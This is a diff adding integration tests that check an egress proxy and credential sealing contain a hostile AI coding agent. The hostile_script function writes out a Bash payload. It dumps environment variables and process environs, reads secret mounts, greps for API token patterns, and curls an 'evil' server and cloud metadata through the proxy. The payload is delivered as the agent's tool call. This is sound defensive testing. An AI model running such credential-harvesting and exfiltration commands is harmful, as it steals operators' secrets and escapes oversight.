@@ -1,0 +1,205 @@
+"""Sealed runs, attacked: the real image, the real Claude CLI, a real egress proxy process, a real engine.
+
+The fake Anthropic API answers the agent's first turn with a Bash tool call that tries everything a hostile agent
+would: print the environment, read the mounts and every process's environment, search the filesystem for
+token-shaped strings, reach an "evil" server on 127.0.0.1 (directly, and through the proxy by name and by IP), and
+write what it found into the workspace, which the run commits and a pull request pushes. The evil server must see
+no connection; no credential may appear anywhere; yet the same run talked to the API and to the git server with
+the real credentials, which only the proxy added.
+"""
+
+from __future__ import annotations
+
+import base64
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+from pathlib import Path
+
+import pytest
+
+from execution import secret_dir
+from execution.attempts import do_request_pull_request
+from execution.models import AttemptStatus, EgressBlock, JobStatus
+from execution.runner import run_attempt, run_job
+from shared.egress import EgressClient, HostPort
+from shared.models import Alert
+from tests.execution.conftest import logs, when_step_runs
+from tests.fakes.anthropic_api import TextReply, ToolUseReply
+from tests.fakes.git_http import basic_credentials
+from tests.fakes.github import FakeGitHub
+from tests.fixtures.processes import start_process, subprocess_env
+from tests.fixtures.waiting import wait_for
+
+pytestmark = [pytest.mark.docker, pytest.mark.django_db(transaction=True)]
+
+
+class CountingServer:
+    """A TCP server on 127.0.0.1 that only counts the connections it accepts (the "evil" host)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+@pytest.fixture
+def evil():
+    server = CountingServer()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def sealed(world, github: FakeGitHub, settings):
+    """Sealed mode with this test's own egress proxy process (short paths: UNIX socket paths are at most 107 bytes)."""
+    temp = Path(tempfile.mkdtemp(prefix="as-", dir="/tmp"))
+    control = temp / "egress" / "control.sock"
+    settings.ANYON_TEMP_DIR = temp
+    settings.ANYON_CREDENTIAL_MODE = "sealed"
+    settings.ANYON_EGRESS_CONTROL = str(control)
+    settings.ANYON_CONTAINER_ENV = {}
+    settings.ANYON_ANTHROPIC_API_URL = world.api.url
+    settings.ANYON_EGRESS_ALLOW_INTERNAL = [str(HostPort.of_url(world.api.url)), str(HostPort.of_url(github.url))]
+    proxy = start_process(
+        "egress-proxy",
+        [sys.executable, "manage.py", "egress_proxy"],
+        subprocess_env(ANYON_EGRESS_CONTROL=str(control), ANYON_TEMP_DIR=str(temp)),
+    )
+    client = EgressClient(control, timeout=2)
+
+    def answers() -> bool:
+        try:
+            return client.ping()
+        except Exception:
+            return False
+
+    wait_for(answers, timeout=30, what="the egress proxy's control socket")
+    yield proxy
+    proxy.stop()
+
+
+@pytest.fixture
+def repo(world, github: FakeGitHub) -> str:
+    github.add_token(world.github_token, login="alice-gh")
+    return github.add_repo("acme", "widgets", {"README.md": "# widgets\n"})
+
+
+def hostile_script(evil_port: int) -> str:
+    return f"""
+exec > /workspace/loot.txt 2>&1
+echo '== env'; env
+echo '== proc environ'; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
+echo '== mounts'; ls -la /run/anyon-secrets; cat /run/anyon-secrets/* 2>/dev/null
+echo '== files'; grep -rIaoE 'sk-ant-[A-Za-z0-9_-]{{20,}}|gh[pousr]_[A-Za-z0-9]{{30,}}' \\
+  /home /workspace /run /etc /tmp /root 2>/dev/null | head -100
+echo '== direct'; curl -sS -m 5 http://127.0.0.1:{evil_port}/direct
+echo '== proxy by ip'; curl -sS -m 5 -p -x http://127.0.0.1:18082 http://127.0.0.1:{evil_port}/by-ip
+echo '== proxy by name'; curl -sS -m 5 -p -x http://127.0.0.1:18082 http://localhost:{evil_port}/by-name
+echo '== proxy plain'; curl -sS -m 5 -x http://127.0.0.1:18082 http://127.0.0.1:{evil_port}/plain
+echo '== metadata'; curl -sS -m 5 -p -x http://127.0.0.1:18082 http://metadata.google.internal/computeMetadata/v1/
+echo done
+"""
+
+
+def test_a_hostile_agent_finds_no_credential_and_reaches_no_other_host(world, repo, sealed, evil, github):
+    world.api.enqueue(
+        ToolUseReply("Bash", {"command": hostile_script(evil.port), "description": "look around"}),
+        TextReply("Looked around."),
+    )
+    attempt = world.attempt(repo_url=repo, prompt="Improve the README")
+    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
+    attempt.refresh_from_db()
+    text = logs(attempt)
+    assert "Sealed run" in text
+    # The agent's loot, committed to the workspace: what it could read.
+    loot_file = next(f for f in attempt.diff if f["path"] == "loot.txt")
+    loot = loot_file["patch"]
+    assert "== done" in loot or "done" in loot
+    assert "anyon-sealed-placeholder" in loot  # it saw the placeholder, which is all there was
+    assert "***" not in loot  # nothing in it had to be masked: there was no credential to find
+    for value in world.values:
+        for form in (value, base64.b64encode(value.encode()).decode()):
+            assert form not in loot
+    # The evil server saw nothing; the refusals are in the log and counted.
+    assert evil.connections == 0
+    assert f"blocked: 127.0.0.1:{evil.port}" in text and f"blocked: localhost:{evil.port}" in text
+    assert EgressBlock.objects.filter(attempt=attempt).count() >= 2
+    # Yet the run used both credentials, added by the proxy only.
+    assert world.api.credentials() == {world.claude_token}
+    clones = github.git_requests()
+    assert clones and all(basic_credentials(r.headers.get("authorization"))[1] == world.github_token for r in clones)
+    # The pull request pushes the committed loot: the guard finds no credential in it, and the push goes through.
+    job = do_request_pull_request(attempt=attempt, enqueue=False)
+    assert run_job(job.pk) == JobStatus.SUCCEEDED, logs(attempt)
+    pushed = subprocess.run(
+        ["git", "--git-dir", str(github.repo_path("acme", "widgets")), "show", f"{attempt.branch}:loot.txt"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+    assert all(value not in pushed for value in world.values)
+    assert not secret_dir.secret_dir_path(attempt.pk).exists()
+
+
+def test_a_commit_carrying_a_credential_is_never_pushed(world, repo, sealed, github):
+    encoded = base64.b64encode(world.github_token.encode()).decode()
+    world.api.enqueue(
+        ToolUseReply("Bash", {"command": f"echo 'token: {encoded}' > notes.txt", "description": "write"}),
+        TextReply("Wrote notes."),
+    )
+    attempt = world.attempt(repo_url=repo, prompt="Write notes")
+    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
+    attempt.refresh_from_db()
+    job = do_request_pull_request(attempt=attempt, enqueue=False)
+    assert run_job(job.pk) == JobStatus.FAILED
+    job.refresh_from_db()
+    assert "Push refused" in job.error and "Nothing was pushed" in job.error
+    refs = subprocess.run(
+        ["git", "--git-dir", str(github.repo_path("acme", "widgets")), "branch", "--list", attempt.branch],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
+    assert refs.strip() == ""  # nothing left
+    assert Alert.objects.filter(kind="push_refused_secret", attempt_id=attempt.pk).exists()
+
+
+def test_the_proxy_killed_mid_run_fails_the_run_with_a_reason_and_an_alert(world, repo, sealed, docker_client):
+    plan = [{"kind": "custom", "title": "long step", "argv": ["sleep", "60"]}]
+    attempt = world.attempt(plan=plan, repo_url=repo)
+    when_step_runs(docker_client, attempt.pk, "sleep", lambda: sealed.proc.send_signal(signal.SIGKILL))
+    assert run_attempt(attempt.pk) == AttemptStatus.FAILED
+    attempt.refresh_from_db()
+    assert "egress proxy" in attempt.error and "stopped during the step" in attempt.error
+    assert Alert.objects.filter(kind="egress_proxy_down").exists()
+    assert not secret_dir.secret_dir_path(attempt.pk).exists()
+
+
+def test_without_a_running_proxy_a_sealed_run_does_not_start(world, repo, settings):
+    settings.ANYON_CREDENTIAL_MODE = "sealed"
+    settings.ANYON_EGRESS_CONTROL = str(Path(tempfile.mkdtemp(prefix="as-")) / "none.sock")
+    attempt = world.attempt(plan=[{"kind": "custom", "title": "x", "argv": ["true"]}], repo_url=repo)
+    assert run_attempt(attempt.pk) == AttemptStatus.FAILED
+    attempt.refresh_from_db()
+    assert "egress proxy is not answering" in attempt.error and not attempt.container_id
+    assert Alert.objects.filter(kind="egress_proxy_down").exists()
+    assert not secret_dir.secret_dir_path(attempt.pk).exists()
